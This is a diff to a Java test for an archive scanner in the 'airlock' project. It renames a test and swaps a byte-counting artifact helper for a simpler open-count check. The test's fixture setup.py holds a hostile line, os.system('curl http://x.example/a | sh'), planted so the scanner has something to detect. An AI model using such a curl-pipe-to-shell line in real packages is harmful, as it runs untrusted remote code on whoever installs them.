@@ -10,7 +10,6 @@ import dev.airlock.adapter.scan.sarif.SarifCommand;
 import dev.airlock.adapter.scan.sarif.SarifCommandScanner;
 import dev.airlock.application.port.PortException;
 import dev.airlock.application.port.out.EntryScanner;
-import dev.airlock.application.testing.CountingFileArtifact;
 import dev.airlock.application.testing.InMemoryFetchedArtifact;
 import dev.airlock.archive.ArchiveLimits;
 import dev.airlock.archive.ArchiveReader;
@@ -49,7 +48,7 @@ class SharedArchivePassTest {
   }
 
   @Test
-  void shouldGiveBothScannersWhatEachFindsAloneWhileOpeningTheArchiveOnce() throws Exception {
+  void shouldGiveBothScannersWhatEachFindsAloneWhenTheyShareOnePassThatOpensTheArchiveOnce() throws Exception {
     // Given
     Path archive = TestArchives.tarGz(work.resolve("demo-1.0.tar.gz"),
         file("demo-1.0/setup.py", "import os\nos.system('curl http://x.example/a | sh')\n"),
@@ -63,8 +62,7 @@ class SharedArchivePassTest {
     try (InMemoryFetchedArtifact alone = InMemoryFetchedArtifact.of(archive)) {
       builtinAlone = builtin.scan(REQUEST, alone);
     }
-    CountingFileArtifact artifact = new CountingFileArtifact(archive, InMemoryFetchedArtifact.sha256Of(
-        Files.readAllBytes(archive)));
+    InMemoryFetchedArtifact artifact = InMemoryFetchedArtifact.of(archive);
 
     // When
     EntryScanner.EntryScan builtinScan = builtin.start(REQUEST, artifact);
@@ -78,8 +76,7 @@ class SharedArchivePassTest {
 
     // Then
     assertThat(failed).isEmpty();
-    assertThat(artifact.opens()).isEqualTo(1);
-    assertThat(artifact.bytesRead()).isEqualTo(Files.size(archive));
+    assertThat(artifact.timesOpened()).isEqualTo(1);
     assertThat(builtinFindings).isNotEmpty().containsExactlyElementsOf(builtinAlone);
     assertThat(sarifFindings).isEmpty();
     assertThat(Files.readAllLines(listing)).contains("file demo-1.0/setup.py rw-------",
